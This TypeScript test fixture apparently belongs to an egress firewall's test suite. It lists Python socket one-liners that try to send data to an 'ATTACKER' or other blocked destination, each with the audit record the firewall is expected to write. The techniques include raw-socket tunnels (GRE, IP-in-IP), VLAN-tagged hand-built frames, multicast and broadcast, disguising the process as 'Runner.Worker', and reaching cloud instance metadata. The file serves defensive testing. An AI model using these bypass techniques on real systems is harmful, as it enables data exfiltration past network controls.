// Ways of sending, as data: what is tried, by whom, and what must be recorded.
import type { AuditEvent } from '../../src/core/audit/event.ts';
import { ALLOWED, ALLOWED6, ATTACKER, ATTACKER6, type Privilege } from './arena.ts';

/** One way of sending. */
interface Case {
  readonly number: number;
  readonly what: string;
  readonly privilege: Privilege;
  readonly script: string;
  readonly to?: string;
  /** Where the same path leads to something allowed; absent where nothing of the kind is. */
  readonly control?: string;
  /** What the record says besides the destination. */
  readonly record?: Partial<AuditEvent>;
}

/** A datagram socket. */
export const UDP = `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)`;
const RAW = (proto: number) => `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, ${proto})`;
const TCP = `s.settimeout(1); s.connect((TO, 443)); s.sendall(M)`;
const blocked = { event_type: 'connection_blocked' } as const;
const protocol = (name: string) => ({ event_type: 'protocol_blocked', protocol: name }) as const;

export const CASES: readonly Case[] = [
  {
    number: 1,
    what: 'a datagram without connect',
    privilege: 'U',
    script: `${UDP}; s.sendto(M, (TO, 9))`,
    control: ALLOWED,
    record: { ...blocked, process: 'python3' },
  },
  {
    number: 5,
    what: 'TCP Fast Open',
    privilege: 'U',
    script: `s = socket.socket(); s.sendto(M, 0x20000000, (TO, 443))`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 5,
    what: 'TCP Fast Open by connect',
    privilege: 'U',
    script: `s = socket.socket(); s.setsockopt(6, 30, 1); ${TCP}`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 6,
    what: 'multipath TCP',
    privilege: 'U',
    script: `s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); ${TCP}`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 7,
    what: 'UDP-Lite',
    privilege: 'N',
    script: `${RAW(136)}; s.sendto(udp(M), (TO, 0))`,
    to: ALLOWED,
    record: protocol('Protocol-136'),
  },
  {
    number: 7,
    what: 'SCTP',
    privilege: 'N',
    script: `${RAW(132)}; s.sendto(udp(M), (TO, 0))`,
    to: ALLOWED,
    record: protocol('SCTP'),
  },
  {
    number: 7,
    what: 'DCCP',
    privilege: 'N',
    script: `${RAW(33)}; s.sendto(udp(M), (TO, 0))`,
    to: ALLOWED,
    record: protocol('Protocol-33'),
  },
  {
    number: 10,
    what: 'a ping socket',
    privilege: 'U',
    script: `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + M, (TO, 0))`,
    control: ALLOWED,
    record: protocol('ICMP'),
  },
  {
    number: 11,
    what: 'native IPv6',
    privilege: 'U',
    script: `s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(M, (TO, 9))`,
    to: ATTACKER6,
    control: ALLOWED6,
    record: blocked,
  },
  {
    number: 12,
    what: 'a v4-mapped address, datagram',
    privilege: 'U',
    script: `s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(M, ('::ffff:' + TO, 9))`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 12,
    what: 'a v4-mapped address, stream',
    privilege: 'U',
    script: `s = socket.socket(socket.AF_INET6); s.settimeout(1); s.connect(('::ffff:' + TO, 443)); s.sendall(M)`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 15,
    what: 'an allowed address, another port',
    privilege: 'U',
    script: `s = socket.socket(); s.settimeout(1); s.connect((TO, 22)); s.sendall(M)`,
    to: ALLOWED,
    record: { ...blocked, dst_port: 22 },
  },
  {
    number: 15,
    what: 'an allowed address, the port by UDP (QUIC)',
    privilege: 'U',
    script: `${UDP}; s.sendto(M, (TO, 443))`,
    to: ALLOWED,
    record: { ...blocked, dst_port: 443, protocol: 'UDP' },
  },
  {
    number: 17,
    what: 'mDNS',
    privilege: 'U',
    script: `${UDP}; s.sendto(M, (TO, 5353))`,
    to: '224.0.0.251',
    record: blocked,
  },
  {
    number: 17,
    what: 'SSDP',
    privilege: 'U',
    script: `${UDP}; s.sendto(M, (TO, 1900))`,
    to: '239.255.255.250',
    record: blocked,
  },
  {
    number: 17,
    what: 'broadcast to the DHCP port',
    privilege: 'U',
    script: `${UDP}; s.setsockopt(1, 6, 1); s.sendto(M, (TO, 67))`,
    to: '255.255.255.255',
    record: blocked,
  },
  {
    number: 17,
    what: 'IPv6 multicast',
    privilege: 'U',
    script: `s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(M, (TO, 5353, 0, socket.if_nametoindex('up0')))`,
    to: 'ff02::fb',
    record: blocked,
  },
  {
    number: 19,
    what: 'raw ICMP',
    privilege: 'N',
    script: `${RAW(1)}; s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + M, (TO, 0))`,
    to: '198.51.100.21',
    control: ALLOWED,
    record: protocol('ICMP'),
  },
  {
    number: 19,
    what: 'raw UDP',
    privilege: 'N',
    script: `${RAW(17)}; s.sendto(udp(M), (TO, 0))`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 20,
    what: 'a header of its own, addressed past the call',
    privilege: 'N',
    script: `s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.sendto(ipv4(17, udp(M)), ('${ALLOWED}', 0))`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 21,
    what: 'GRE to an allowed address',
    privilege: 'N',
    script: `${RAW(47)}; s.sendto(b'\\0\\0\\x08\\0' + ipv4(17, udp(M), '${ATTACKER}'), (TO, 0))`,
    to: ALLOWED,
    record: protocol('GRE'),
  },
  {
    number: 21,
    what: 'IP in IP to an allowed address',
    privilege: 'N',
    script: `${RAW(4)}; s.sendto(ipv4(17, udp(M), '${ATTACKER}'), (TO, 0))`,
    to: ALLOWED,
    record: protocol('Protocol-4'),
  },
  {
    number: 21,
    what: 'IPv6 in IP to an allowed address',
    privilege: 'N',
    script: `${RAW(41)}; s.sendto(b'\\x60' + bytes(39) + M, (TO, 0))`,
    to: ALLOWED,
    record: protocol('IPv6-in-IPv4'),
  },
  {
    number: 25,
    what: 'a frame made by hand',
    privilege: 'N',
    script: `frame(b'\\x08\\0', ipv4(17, udp(M)))`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 28,
    what: 'a VLAN tag',
    privilege: 'N',
    script: `frame(b'\\x81\\0\\0\\x07\\x08\\0', ipv4(17, udp(M)))`,
    record: blocked,
  },
  {
    number: 28,
    what: 'two VLAN tags',
    privilege: 'N',
    script: `frame(b'\\x88\\xa8\\0\\x07\\x81\\0\\0\\x07\\x08\\0', ipv4(17, udp(M)))`,
    record: blocked,
  },
  {
    number: 60,
    what: 'a mark on the socket',
    privilege: 'N',
    script: `${UDP}; s.setsockopt(1, 36, 0xca12); s.sendto(M, (TO, 9))`,
    control: ALLOWED,
    record: blocked,
  },
  {
    number: 62,
    what: "the runner's name",
    privilege: 'U',
    script: `ctypes.CDLL(None).prctl(15, b'Runner.Worker', 0, 0, 0); ${UDP}; s.sendto(M, (TO, 9))`,
    control: ALLOWED,
    record: { ...blocked, process: 'Runner.Worker', origin: 'system' },
  },
  {
    number: 66,
    what: 'DNS over TLS',
    privilege: 'U',
    script: `s = socket.socket(); s.settimeout(1); s.connect((TO, 853)); s.sendall(M)`,
    record: { ...blocked, dst_port: 853 },
  },
  {
    number: 99,
    what: 'instance metadata',
    privilege: 'U',
    script: `s = socket.socket(); s.settimeout(1); s.connect((TO, 80)); s.sendall(M)`,
    to: '169.254.169.254',
    record: blocked,
  },
  {
    number: 100,
    what: "the platform's wire server",
    privilege: 'U',
    script: `s = socket.socket(); s.settimeout(1); s.connect((TO, 80)); s.sendall(M)`,
    to: '168.63.129.16',
    record: blocked,
  },
  {
    number: 101,
    what: 'a private address behind the uplink',
    privilege: 'U',
    script: `${UDP}; s.sendto(M, (TO, 9))`,
    to: '10.9.9.9',
    record: blocked,
  },
];
